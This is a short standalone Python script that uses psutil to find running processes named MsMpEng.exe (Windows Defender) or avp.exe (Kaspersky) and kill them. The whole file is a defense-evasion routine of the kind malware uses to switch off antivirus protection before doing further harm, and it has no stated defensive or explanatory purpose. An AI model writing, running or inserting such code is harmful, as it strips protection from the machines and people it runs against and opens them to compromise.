import psutil

for process in psutil.process_iter(["name"]):
    if process.info["name"] in ("MsMpEng.exe", "avp.exe"):
        process.kill()
